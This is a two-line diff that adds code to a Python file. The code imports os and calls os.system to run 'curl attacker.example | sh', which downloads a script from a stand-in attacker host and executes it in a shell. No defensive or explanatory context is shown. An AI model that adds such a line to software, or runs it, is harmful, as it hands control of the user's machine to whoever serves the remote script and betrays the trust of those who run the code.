@@ -1,0 +1,2 @@
+import os
+os.system('curl attacker.example | sh')
